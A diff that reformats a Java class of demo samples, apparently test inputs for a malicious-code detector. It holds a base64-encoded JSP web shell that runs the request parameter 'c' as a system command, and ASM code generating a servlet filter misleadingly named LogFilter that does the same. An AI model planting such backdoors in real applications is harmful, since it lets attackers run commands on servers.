@@ -16,7 +16,8 @@ import org.objectweb.asm.Opcodes;
  */
 final class DemoSamples {
     /** A page that runs the request parameter {@code c}. */
-    private static final String COMMAND_PAGE = "PCUgUnVudGltZS5nZXRSdW50aW1lKCkuZXhlYyhyZXF1ZXN0LmdldFBhcmFtZXRlcigiYyIpKTsgJT4=";
+    private static final String COMMAND_PAGE =
+            "PCUgUnVudGltZS5nZXRSdW50aW1lKCkuZXhlYyhyZXF1ZXN0LmdldFBhcmFtZXRlcigiYyIpKTsgJT4=";
 
     /** A page that greets. */
     private static final String HARMLESS_PAGE = "PGgxPkhlbGxvLCA8JT0gbmV3IGphdmEudXRpbC5EYXRlKCkgJT48L2gxPg==";
@@ -37,13 +38,9 @@ final class DemoSamples {
     /** A servlet filter that runs the request parameter {@code c}. */
     private static byte[] commandFilter() {
         ClassWriter writer = new ClassWriter(ClassWriter.COMPUTE_MAXS);
-        writer.visit(
-                Opcodes.V1_8,
-                Opcodes.ACC_PUBLIC,
-                "org/example/LogFilter",
-                null,
-                "java/lang/Object",
-                new String[] {"jakarta/servlet/Filter"});
+        writer.visit(Opcodes.V1_8, Opcodes.ACC_PUBLIC, "org/example/LogFilter", null, "java/lang/Object", new String[] {
+            "jakarta/servlet/Filter"
+        });
         MethodVisitor filter = writer.visitMethod(
                 Opcodes.ACC_PUBLIC,
                 "doFilter",
@@ -51,8 +48,7 @@ final class DemoSamples {
                 null,
                 new String[] {"java/io/IOException"});
         filter.visitCode();
-        filter.visitMethodInsn(
-                Opcodes.INVOKESTATIC, "java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;", false);
+        filter.visitMethodInsn(Opcodes.INVOKESTATIC, "java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;", false);
         filter.visitVarInsn(Opcodes.ALOAD, 1);
         filter.visitLdcInsn("c");
         filter.visitMethodInsn(
@@ -62,11 +58,7 @@ final class DemoSamples {
                 "(Ljava/lang/String;)Ljava/lang/String;",
                 true);
         filter.visitMethodInsn(
-                Opcodes.INVOKEVIRTUAL,
-                "java/lang/Runtime",
-                "exec",
-                "(Ljava/lang/String;)Ljava/lang/Process;",
-                false);
+                Opcodes.INVOKEVIRTUAL, "java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;", false);
         filter.visitInsn(Opcodes.POP);
         filter.visitInsn(Opcodes.RETURN);
         filter.visitMaxs(0, 0);
